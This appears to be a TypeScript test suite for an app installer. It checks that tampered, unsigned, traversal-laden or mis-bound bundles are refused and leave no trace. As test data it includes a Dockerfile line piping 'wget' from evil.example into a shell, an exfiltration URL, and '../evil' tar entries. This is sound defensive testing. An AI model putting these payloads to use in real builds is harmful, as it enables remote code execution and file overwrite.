// The personal box refuses bad installs, each with a code and a message that says what is wrong,
// and leaves nothing behind: the same components listed, no bundle folder, no process, no
// registration at the arbiter, no stray file. Real parts: bundles the builder made (then edited
// by hand, or hostile tarballs), a real app store (and a proxy in front of it that lies about
// signatures and bundles), the box with the process driver. A bad install that gets half-way
// (its own datastore up, then the app cannot start) is undone step by step. After all of it,
// the box still installs good apps under the very names it refused.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { bundleContentHash, bundleFiles, packBundle, type Bundle } from '../core/bundle';
import { writeTar } from '../core/bundle/tar.write';
import { flippedSignature, lyingStore, withExtraNodes, type LyingStore } from './support/bad-bundles';
import { specBundle } from './support/built-bundle';
import { hostileTarball } from './support/hostile-tarball';
import { installed, ownerAuth, startTestBox, startTestStore, type InstallLine, type TestBox, type TestStore } from './support/personal-box.fixture';

const run = promisify(execFile);
const dir = mkdtempSync(path.join(tmpdir(), 'box-install-bad-input-'));
const dataDir = path.join(dir, 'box');
const bundlesDir = path.join(dataDir, 'bundles');
let store: TestStore;
let box: TestBox;
const liars: LyingStore[] = [];

// Built by the real builder: reads the host load (required) and memory (optional), switches a light.
const victim = specBundle({
  name: 'victim', version: '1.0.0', label: 'Victim',
  sources: [{ clientid: 'load', type: 'loadavg1' }, { clientid: 'mem', type: 'memory-used', required: false }],
  actuators: [{ clientid: 'lamp', type: 'set-light-on', from: [] }],
});
const victimBindings = { load: 'loadavg1', lamp: 'set-light-on' };
const bystander = specBundle({ name: 'bystander', version: '1.0.0', sources: [{ clientid: 'load', type: 'loadavg1' }] });
const sideload = specBundle({ name: 'sideload', version: '1.0.0', sources: [{ clientid: 'load', type: 'loadavg1' }] });
// Its own datastore starts before the app does; a node type no runtime has then stops the app.
const halfway = specBundle({ name: 'halfway', version: '1.0.0', sources: [{ clientid: 'load', type: 'loadavg1' }], ownData: true });

/** Everything an install could leave: what the box lists, its files, its processes, the arbiter's registrations. */
interface Trace { apps: string[]; files: string[]; processes: string[]; registered: string[]; stray: string[] }

const listing = (folder: string): string[] => (existsSync(folder) ? readdirSync(folder, { recursive: true }).map(String).sort() : []);
const pgrep = async (pattern: string): Promise<string[]> => {
  const { stdout } = await run('pgrep', ['-f', '--', pattern]).catch(() => ({ stdout: '' }));
  return stdout.split('\n').filter(Boolean).sort();
};
const appNames = async (): Promise<string[]> => {
  const answer = await box.api('GET', '/api/apps');
  assert.equal(answer.status, 200, JSON.stringify(answer.body));
  return (answer.body as { name: string; status: string }[]).map((a) => `${a.name} ${a.status}`).sort();
};

async function trace(): Promise<Trace> {
  const registered = await box.running.runtime.admin.components();
  return {
    apps: await appNames(),
    // A component's folders (its secrets, its data), not the files a running datastore changes.
    files: [...listing(bundlesDir).map((f) => `bundles/${f}`), ...listing(path.join(dataDir, 'components')).filter((f) => f.split(path.sep).length <= 2).map((f) => `components/${f}`)],
    processes: await pgrep(dataDir),
    registered: registered.map((c) => `${c.name} ${JSON.stringify(c.grants)}`).sort(),
    stray: ['evil', '../evil', '../../evil'].flatMap((f) => [path.join(bundlesDir, f), path.join(dataDir, f), path.join(dir, f)]).filter((f) => existsSync(f)),
  };
}

/** Runs `refused` and checks that it left exactly what was there, and nothing of `name`. */
async function leavesNothing(name: string, refused: () => Promise<void>): Promise<void> {
  // Its port and log, and its datastore's (a box's own component, as `arbiter`, keeps its own).
  const kept = () => [name, `${name}-store`].map((c) => `${c} port ${box.running.runtime.db.port(c) ?? 'none'} log ${existsSync(path.join(dataDir, 'logs', `${c}.log`))}`);
  const before = await trace();
  const keptBefore = kept();
  await refused();
  assert.deepEqual(await trace(), before, `nothing of ${name} is left`);
  assert.deepEqual(kept(), keptBefore, `no port or log is kept for ${name}`);
  if (!/^[a-z][a-z0-9-]*$/.test(name)) return;
  assert.equal((await box.api('GET', `/api/apps/${name}`)).status, 404, `${name} is not installed`);
  assert.equal(existsSync(path.join(bundlesDir, name)), false, `no bundle folder for ${name}`);
  assert.deepEqual(await pgrep(path.join(bundlesDir, name)), [], `nothing of ${name} runs`);
}

/** The refusal an install answered (a 4xx before it started, or the NDJSON error line once it had). */
function refusal(lines: InstallLine[], code: string, message: RegExp, what = code): { code: string; message: string; hint?: string } {
  const error = lines.at(-1)?.error;
  assert.ok(error, `${what}: refused: ${JSON.stringify(lines.slice(-3))}`);
  assert.equal(error.code, code, `${what}: ${JSON.stringify(error)}`);
  assert.match(error.message, message, what);
  assert.equal(lines.some((l) => l.result), false, `${what}: no result line`);
  return error;
}

const tarball = (bundle: Bundle): Buffer => packBundle(bundle);
const local = (tgz: Buffer, bindings: Record<string, string> = {}, unsigned = true) => box.install({ tarball: tgz, bindings, unsigned });

before(async () => {
  store = await startTestStore(dir);
  await store.publish(victim);
  await store.publish(bystander);
  box = await startTestBox({ dataDir, driver: 'process', stores: [store.url] });
});

after(async () => {
  for (const liar of liars) await liar.close();
  await box?.close();
  await store?.close();
  rmSync(dir, { recursive: true, force: true });
});

test('a body that is not a gzip tarball, or is cut short, is refused as such', async () => {
  const good = tarball(victim);
  const cases: [string, Buffer, string, RegExp][] = [
    ['plain text', Buffer.from('this is not a bundle'), 'bundle-not-gzip', /not a gzip-compressed tarball/],
    ['a gzip stream cut in half', good.subarray(0, good.length >> 1), 'bundle-not-gzip', /not a valid gzip stream \(truncated or corrupt\)/],
    ['a tar cut in half, gzipped whole', gzipSync(writeTar(bundleFiles(victim)).subarray(0, 700)), 'bundle-tar-invalid', /not a valid tar archive/],
    ['gzip of nothing but zeros', gzipSync(Buffer.alloc(1024)), 'bundle-entry-missing', /has no databox-manifest\.json/],
  ];
  for (const [what, body, code, message] of cases) {
    await leavesNothing('victim', async () => {
      refusal(await local(body, victimBindings), code, message, what);
    });
  }
});

test('a tarball with a "../" entry or an absolute path is refused, and nothing is written outside (or inside) the box', async () => {
  const real = bundleFiles(victim).map((f) => ({ header: { name: f.name, type: 'file' as const }, content: f.data }));
  const cases: [string, string, RegExp][] = [
    ['../evil', 'bundle-entry-traversal', /entry "\.\.\/evil" climbs out of the bundle with "\.\."/],
    ['../../evil', 'bundle-entry-traversal', /climbs out of the bundle/],
    ['modules/../../evil', 'bundle-entry-traversal', /climbs out of the bundle/],
    ['/etc/databox-evil', 'bundle-entry-absolute', /entry "\/etc\/databox-evil" has an absolute path/],
    [path.join(dir, 'evil'), 'bundle-entry-absolute', /has an absolute path/],
  ];
  for (const [name, code, message] of cases) {
    await leavesNothing('victim', async () => {
      // The real files first: the refusal is for the hostile entry, not for something missing.
      const lines = await local(await hostileTarball([...real, { header: { name, type: 'file' }, content: 'owned' }]), victimBindings);
      const error = refusal(lines, code, message, name);
      assert.match(error.hint ?? '', /plain files at its root/);
    });
  }
  assert.equal(existsSync('/etc/databox-evil'), false, 'no file at the absolute path');
});

test('a bundle whose Dockerfile or manifest was edited after the build is refused by the bundle validator', async () => {
  const cases: [string, Bundle, RegExp][] = [
    ['a RUN line added to the Dockerfile', { ...victim, dockerfile: `${victim.dockerfile}RUN wget -qO- http://evil.example/x | sh\n` }, /the Dockerfile is not the one `databox build` writes for this manifest \(it differs from line \d+\)/],
    ['an export destination added to the manifest', { ...victim, manifest: { ...victim.manifest, 'export-whitelist': [...victim.manifest['export-whitelist'], { url: 'https://evil.example/steal', description: 'everything' }] } }, /the Dockerfile is not the one `databox build` writes/],
    ['the manifest renamed', { ...victim, manifest: { ...victim.manifest, name: 'renamed' } }, /package\.json is named "victim" but the manifest "renamed"/],
  ];
  for (const [what, bundle, message] of cases) {
    await leavesNothing(bundle.manifest.name, async () => {
      const error = refusal(await local(tarball(bundle), victimBindings), 'bundle-invalid', message, what);
      assert.match(error.hint ?? '', /Rebuild the bundle with `databox build`/, what);
    });
  }
});

test('a local unsigned bundle is refused without unsigned=1, and installs with it, marked unsigned', async () => {
  await leavesNothing('sideload', async () => {
    const lines = await local(tarball(sideload), { load: 'loadavg1' }, false);
    const error = refusal(lines, 'bundle-unsigned', /sideload is not signed/);
    assert.match(error.hint ?? '', /--unsigned/);
  });
  const result = installed(await local(tarball(sideload), { load: 'loadavg1' }));
  assert.equal(result.status, 'running');
  const listed = ((await box.api('GET', '/api/apps')).body as { name: string; origin: unknown }[]).find((a) => a.name === 'sideload');
  assert.deepEqual(listed?.origin, { kind: 'local', unsigned: true });
  assert.ok((await pgrep(path.join(bundlesDir, 'sideload'))).length > 0, 'it runs as a process of its own');
});

test('a signature inside a local bundle vouches for nothing: refused without unsigned=1, and reviewed as NOT SIGNED with it', async () => {
  // Signatures travel beside a bundle (decision 0010); one copied into the manifest is another app's.
  const record = (await (await fetch(`${store.url}/api/apps/bystander/1.0.0`)).json()) as { signature: string };
  const claimed = { ...victim, manifest: { ...victim.manifest, signature: record.signature } };
  assert.equal(bundleContentHash(claimed), bundleContentHash(victim), 'the manifest signature is outside the content hash');
  for (const signature of [record.signature, flippedSignature(record.signature)]) {
    const bundle = { ...claimed, manifest: { ...claimed.manifest, signature } };
    await leavesNothing('victim', async () => {
      refusal(await local(tarball(bundle), victimBindings, false), 'bundle-unsigned', /victim is not signed/);
    });
  }
  const review = await fetch(`${box.url}/api/install?review=1&unsigned=1&bind=load=loadavg1&bind=lamp=set-light-on`, {
    method: 'POST', headers: { authorization: ownerAuth, 'content-type': 'application/gzip' }, body: new Uint8Array(tarball(claimed)),
  });
  const body = await review.json() as { signed: boolean; vouchedBy: string };
  assert.deepEqual([review.status, body.signed], [200, false]);
  assert.match(body.vouchedBy, /^NOT SIGNED/);
});

test('an app store that sends a signature that does not verify, or another bundle than it recorded, is refused', async () => {
  const other = (await (await fetch(`${store.url}/api/apps/bystander/1.0.0`)).json()) as { signature: string };
  const swapped = tarball(withExtraNodes(victim, [{ type: 'debug', name: 'swapped in' }]));
  const lies: [string, Parameters<typeof lyingStore>[1], number, string, RegExp][] = [
    ['another bundle\'s signature', { record: (r) => ({ ...r, signature: other.signature }) }, 403, 'signature-invalid', /the signature of victim does not match its contents \(content hash [0-9a-f]{16}\.\.\.\)/],
    ['one byte of the signature flipped', { record: (r) => ({ ...r, signature: flippedSignature(String(r.signature)) }) }, 403, 'signature-invalid', /the signature of victim does not match its contents/],
    ['no signature at all', { record: (r) => ({ ...r, signature: '' }) }, 403, 'bundle-unsigned', /victim from the app store carries no signature/],
    ['a bundle edited after it was signed', { bundle: () => swapped }, 502, 'store-bundle-mismatch', /the bundle the app store sent is not the one it recorded \(content hash [0-9a-f]{16}\.\.\. against [0-9a-f]{16}\.\.\.\)/],
  ];
  for (const [what, lie, status, code, message] of lies) {
    const liar = await lyingStore(store.url, lie);
    liars.push(liar);
    await leavesNothing('victim', async () => {
      const answer = await box.api('POST', '/api/install', { app: 'victim', bindings: victimBindings, store: liar.url });
      assert.equal(answer.status, status, `${what}: ${JSON.stringify(answer.body)}`);
      refusal([answer.body as InstallLine], code, message, what);
    });
  }
});

test('bindings that do not fit are refused, each saying which clientid and why', async () => {
  const cases: [string, unknown, string, RegExp][] = [
    ['a required datasource unbound', { lamp: 'set-light-on' }, 'bindings-invalid', /load \(loadavg1\) is required: bind it to one of your loadavg1 sources \(--bind load=<source id>\)/],
    ['nothing bound at all', {}, 'bindings-invalid', /lamp \(set-light-on, an actuator\) is required.*load \(loadavg1\) is required/],
    ['a source id that does not exist', { ...victimBindings, load: 'no-such-source' }, 'bindings-invalid', /load \(loadavg1\) is bound to "no-such-source", which is none of your data sources/],
    ['a sensor bound to an actuator', { ...victimBindings, load: 'set-light-on' }, 'bindings-invalid', /load \(loadavg1\) is bound to "set-light-on", which is set-light-on data, not loadavg1/],
    ['an actuator bound to a sensor', { ...victimBindings, lamp: 'light-state' }, 'bindings-invalid', /lamp \(set-light-on, an actuator\) is bound to "light-state", which is light-state data, not set-light-on/],
    ['a type mismatch', { ...victimBindings, load: 'temperature' }, 'bindings-invalid', /load \(loadavg1\) is bound to "temperature", which is temperature data, not loadavg1/],
    ['an optional one of the wrong type', { ...victimBindings, mem: 'loadavg1' }, 'bindings-invalid', /mem \(memory-used\) is bound to "loadavg1", which is loadavg1 data, not memory-used/],
    ['a clientid the app does not declare', { ...victimBindings, ghost: 'loadavg1' }, 'bindings-invalid', /"ghost" is not a datasource victim declares \(it declares lamp, load, mem\)/],
    ['bindings that are not a map of strings', { load: 1 }, 'field-invalid', /"bindings" must map each clientid to one of your source ids/],
    ['bindings that are a list', ['loadavg1'], 'field-invalid', /"bindings" must map each clientid/],
  ];
  for (const [what, bindings, code, message] of cases) {
    await leavesNothing('victim', async () => {
      const answer = await box.api('POST', '/api/install', { app: 'victim', bindings });
      assert.equal(answer.status, 400, `${what}: ${JSON.stringify(answer.body)}`);
      const error = refusal([answer.body as InstallLine], code, message, what);
      if (code === 'bindings-invalid') assert.match(error.hint ?? '', /databox box sources/);
    });
  }
  // The same checks on a local bundle, bound in the query.
  await leavesNothing('victim', async () => {
    refusal(await local(tarball(victim), { load: 'temperature', lamp: 'set-light-on' }), 'bindings-invalid', /which is temperature data, not loadavg1/);
  });
  await leavesNothing('victim', async () => {
    const answer = await fetch(`${box.url}/api/install?unsigned=1&bind=load`, {
      method: 'POST', headers: { authorization: ownerAuth, 'content-type': 'application/gzip' }, body: new Uint8Array(tarball(victim)),
    });
    assert.equal(answer.status, 400);
    refusal([await answer.json() as InstallLine], 'field-invalid', /bind "load" is not <clientid>=<source id>/);
  });
});

test('an app the store does not have is a 404 that names it; a name that is no app name is a 400', async () => {
  const cases: [string, number, string, RegExp][] = [
    ['no-such-app', 404, 'not-found', /^there is no app "no-such-app"$/],
    ['victim@9.9.9', 404, 'not-found', /^there is no version 9\.9\.9 of "victim"$/],
    ['../etc', 400, 'app-ref-invalid', /"\.\.\/etc" is not an app name \(name or name@version\)/],
    ['UPPER case', 400, 'app-ref-invalid', /"UPPER case" is not an app name/],
    ['victim@latest', 400, 'app-ref-invalid', /"victim@latest" is not an app name/],
    ['', 400, 'app-ref-invalid', /"" is not an app name/],
  ];
  for (const [app, status, code, message] of cases) {
    await leavesNothing(app, async () => {
      const answer = await box.api('POST', '/api/install', { app, bindings: victimBindings });
      assert.equal(answer.status, status, `${app}: ${JSON.stringify(answer.body)}`);
      refusal([answer.body as InstallLine], code, message, app);
    });
  }
  await leavesNothing('victim', async () => {
    const answer = await box.api('POST', '/api/install', { bindings: victimBindings });
    assert.equal(answer.status, 400);
    refusal([answer.body as InstallLine], 'field-invalid', /send \{"app": "name\[@version\]"/);
  });
});

test('a name the box keeps for itself is refused', async () => {
  for (const name of ['arbiter', 'audit', 'victim-store']) {
    const bundle = specBundle({ name, version: '1.0.0', sources: [{ clientid: 'load', type: 'loadavg1' }] });
    await leavesNothing(name, async () => {
      refusal(await local(tarball(bundle), { load: 'loadavg1' }), 'component-name-reserved', new RegExp(`"${name}" is a name the box keeps for itself`));
    });
  }
});

test('installing an app that is already installed is a 409, and the running one is left as it was', async () => {
  installed(await box.install({ app: 'bystander', bindings: { load: 'loadavg1' } }));
  for (const [name, again] of [
    ['bystander', () => box.install({ app: 'bystander', bindings: { load: 'loadavg1' } })],
    ['sideload', () => local(tarball(sideload), { load: 'loadavg1' })],
  ] as const) {
    const pids = await pgrep(path.join(bundlesDir, name));
    assert.ok(pids.length > 0, `${name} runs`);
    const before = await trace();
    const lines = await again();
    const error = refusal(lines, 'component-installed', new RegExp(`${name} is already installed on this box`));
    assert.match(error.hint ?? '', /Uninstall it first/);
    assert.deepEqual(await trace(), before, 'nothing changed');
    assert.deepEqual(await pgrep(path.join(bundlesDir, name)), pids, `the same ${name} process still runs`);
    assert.equal(((await box.api('GET', `/api/apps/${name}`)).body as { status: string }).status, 'running');
  }
});

test('an install that fails half-way (its datastore up, then the app cannot start) is undone step by step', { timeout: 180_000 }, async () => {
  // flows.json edited after the build: a node type no runtime has. The validator ties the
  // manifest and Dockerfile together, not the flow's node types; the runtime refuses it at start.
  const broken = withExtraNodes(halfway, [{ type: 'no-such-node-type' }]);
  let lines: InstallLine[] = [];
  await leavesNothing('halfway', async () => {
    lines = await local(tarball(broken), { load: 'loadavg1' });
  });
  const progress = lines.flatMap((l) => (l.progress ? [l.progress] : []));
  assert.ok(progress.includes('halfway-store: running'), `it got half-way: ${JSON.stringify(progress)}`);
  assert.ok(progress.some((p) => /^halfway: install failed \(.*\); undoing$/.test(p)), JSON.stringify(progress));
  assert.equal(progress.some((p) => p.includes('could not undo')), false, `every step was undone: ${JSON.stringify(progress)}`);
  refusal(lines, 'component-not-ready', /halfway did not become ready; its last output: .*no-such-node-type/);
  assert.deepEqual(await pgrep('--name halfway-store'), [], 'its datastore stopped');
  assert.equal(existsSync(path.join(dataDir, 'components', 'halfway-store', 'data')), false, 'the data its datastore made is gone');
  const registered = (await box.running.runtime.admin.components()).map((c) => c.name);
  assert.deepEqual(registered.filter((n) => n.startsWith('halfway')), [], 'the arbiter forgot it and its datastore');
  await box.running.runtime.audit?.flush(); // events are sent in batches; this one may still be on its way
  const audit = await box.api('GET', '/api/audit?app=halfway&kind=install-failed');
  assert.ok((audit.body as { events: unknown[] }).events.length > 0, 'the failed install is audited');
});

test('afterwards the box installs good apps under the names it refused', { timeout: 120_000 }, async () => {
  const fromStore = installed(await box.install({ app: 'victim', bindings: victimBindings }));
  assert.deepEqual([fromStore.status, fromStore.origin], ['running', { kind: 'store', store: store.url, publisher: 'octo-dev' }]);
  const again = installed(await local(tarball(halfway), { load: 'loadavg1' }));
  assert.deepEqual([again.status, again.store], ['running', 'halfway-store']);
  assert.ok((await pgrep(path.join(bundlesDir, 'victim'))).length > 0);
  assert.ok((await pgrep(path.join(bundlesDir, 'halfway'))).length > 0);
});
